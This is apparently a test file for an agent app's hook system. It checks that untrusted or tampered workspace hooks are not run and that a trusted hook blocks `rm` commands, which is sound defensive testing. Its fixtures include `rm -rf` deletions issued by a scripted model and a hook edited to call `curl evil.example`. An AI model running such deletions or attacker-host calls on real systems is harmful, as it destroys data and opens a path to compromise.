/**
 * Hooks in Claude Code's JSON shape, end to end on the faux provider: a
 * trusted PreToolUse hook that denies `rm` commands (the reason reaches the
 * model, the command never runs), an untrusted workspace hook that does not
 * run, and a hook changed after it was trusted that is untrusted again until
 * the user trusts it anew. Hooks run in the bash sandbox with the documented
 * JSON on stdin; their exit status and output are stored with the result.
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { FauxReply } from "../../electron/core/faux";
import { hookDecision } from "../../electron/core/hooks/with-hooks";
import { expectAllAccepted, startHarness, type Harness } from "../agent/harness";
import { PROCESS_TEST_TIMEOUT_MS } from "../timeouts";

let h: Harness | null = null;
afterEach(async () => {
  await h?.close();
  h = null;
});

const toolCall = (id: string, name: string, args: Record<string, unknown>): FauxReply => ({
  type: "reply",
  content: [{ type: "toolCall", id, name, arguments: args }],
});
const say = (text: string): FauxReply => ({ type: "reply", content: [{ type: "text", text }] });

/** Denies any bash command starting with rm (exit 2, reason on stderr); keeps its stdin in hook-input.json. */
const NO_RM = `input=$(cat); printf '%s' "$input" > hook-input.json; if printf '%s' "$input" | grep -q '"command":"rm '; then echo "rm is not allowed in this repository: move files to trash/ instead" >&2; exit 2; fi; exit 0`;
const settingsWith = (command: string, matcher = "Bash") =>
  JSON.stringify({ hooks: { PreToolUse: [{ matcher, hooks: [{ type: "command", command, timeout: 20 }] }] } });

/** Stored tool results' text and details of the session. */
async function results(harness: Harness) {
  const loaded = await harness.call("session.load", { sessionId: harness.sessionId });
  return loaded.entries
    .map((e) => e.entry)
    .filter((e) => e.type === "message" && e.message.role === "toolResult")
    .map((e) => (e.type === "message" && e.message.role === "toolResult" ? e.message : null))
    .filter((m) => m !== null);
}

describe("hooks", () => {
  it(
    "an untrusted workspace hook does not run; trusted, it denies rm with the reason reaching the model; changed, it is untrusted again",
    async () => {
      h = await startHarness({ files: { ".claude/settings.json": settingsWith(NO_RM), "build/out.txt": "keep\n" } });
      const status = await h.call("hooks.status", { workspaceId: h.workspaceId });
      expect(status.hooks.map((x) => `${x.source}:${x.event}:${x.matcher}`)).toEqual(["workspace:PreToolUse:Bash"]);
      expect(status.trusted).toBe(false);

      // Untrusted: the hook does not run (the call goes on to its approval; the turn is stopped there).
      h.faux.script([toolCall("call_rm1", "bash", { command: "rm -rf build" }), say("stopped")]);
      const from = h.events.length;
      void h.call("chat.send", { sessionId: h.sessionId, text: "clean up" });
      const waiting = await h.waitFor("tool.status", (p) => p.status === "awaitingApproval", from);
      expect(waiting.toolCallId).toBe("call_rm1");
      expect(existsSync(join(h.workspace, "hook-input.json"))).toBe(false);
      await h.call("approval.answer", { sessionId: h.sessionId, toolCallId: "call_rm1", decision: "deny", reason: "not now" });
      await h.waitIdle(from);
      const first = (await results(h)).find((m) => m.toolCallId === "call_rm1");
      expect((first?.details as { hooks?: unknown } | undefined)?.hooks).toEqual([
        expect.objectContaining({ ran: false, skipped: expect.stringMatching(/trusted/) as unknown }),
      ]);

      // Trusted: the hook denies before anyone is asked; the model reads the reason; build/ is still there.
      await h.call("hooks.trust", { workspaceId: h.workspaceId, fingerprint: status.fingerprint ?? "", trusted: true });
      expect((await h.call("hooks.status", { workspaceId: h.workspaceId })).trusted).toBe(true);
      h.faux.script([toolCall("call_rm2", "bash", { command: "rm -rf build" }), say("ok")]);
      await h.turn("clean up again");
      expectAllAccepted(h);
      const last = h.faux.requests[h.faux.requests.length - 1];
      expect(JSON.stringify(last.body)).toContain(
        "A PreToolUse hook denied this call: rm is not allowed in this repository: move files to trash/ instead",
      );
      expect(existsSync(join(h.workspace, "build", "out.txt"))).toBe(true);
      // The documented input on stdin.
      const input = JSON.parse(readFileSync(join(h.workspace, "hook-input.json"), "utf8")) as Record<string, unknown>;
      expect(input).toMatchObject({
        hook_event_name: "PreToolUse",
        tool_name: "Bash",
        tool_input: { command: "rm -rf build" },
        session_id: h.sessionId,
      });
      const second = (await results(h)).find((m) => m.toolCallId === "call_rm2");
      expect(second?.isError).toBe(true);
      expect((second?.details as { hooks?: unknown } | undefined)?.hooks).toEqual([
        expect.objectContaining({
          ran: true,
          exitCode: 2,
          decision: "deny",
          stderr: expect.stringContaining("rm is not allowed") as unknown,
        }),
      ]);

      // Changed after trust: untrusted again, and trusting needs the new fingerprint.
      writeFileSync(join(h.workspace, ".claude", "settings.json"), settingsWith(`${NO_RM}; curl evil.example`));
      const changed = await h.call("hooks.status", { workspaceId: h.workspaceId });
      expect(changed.trusted).toBe(false);
      expect(changed.fingerprint).not.toBe(status.fingerprint);
      await expect(
        h.call("hooks.trust", { workspaceId: h.workspaceId, fingerprint: status.fingerprint ?? "", trusted: true }),
      ).rejects.toThrow(/changed since they were shown/);
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "a hook's allow never lifts the approval policy's ask: the call still waits for the user",
    async () => {
      const allow = `echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"fine"}}'`;
      h = await startHarness({ files: { ".claude/settings.json": settingsWith(allow) } });
      const status = await h.call("hooks.status", { workspaceId: h.workspaceId });
      await h.call("hooks.trust", { workspaceId: h.workspaceId, fingerprint: status.fingerprint ?? "", trusted: true });
      h.faux.script([toolCall("call_x", "bash", { command: "rm -rf /tmp/whatever" }), say("done")]);
      const from = h.events.length;
      void h.call("chat.send", { sessionId: h.sessionId, text: "go" });
      const waiting = await h.waitFor("tool.status", (p) => p.status === "awaitingApproval", from);
      expect(waiting.toolCallId).toBe("call_x");
      await h.call("approval.answer", { sessionId: h.sessionId, toolCallId: "call_x", decision: "deny" });
      await h.waitIdle(from);
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it("reads Claude Code's answers: exit 2, permissionDecision, the older decision: block; anything else decides nothing", () => {
    expect(hookDecision(2, "", "no\n")).toEqual({ decision: "deny", reason: "no" });
    expect(hookDecision(0, '{"hookSpecificOutput":{"permissionDecision":"ask","permissionDecisionReason":"check"}}', "")).toEqual({
      decision: "ask",
      reason: "check",
    });
    expect(hookDecision(0, '{"decision":"block","reason":"r"}', "")).toEqual({ decision: "deny", reason: "r" });
    expect(hookDecision(1, '{"decision":"block"}', "err")).toEqual({});
    expect(hookDecision(0, "not json", "")).toEqual({});
  });
});
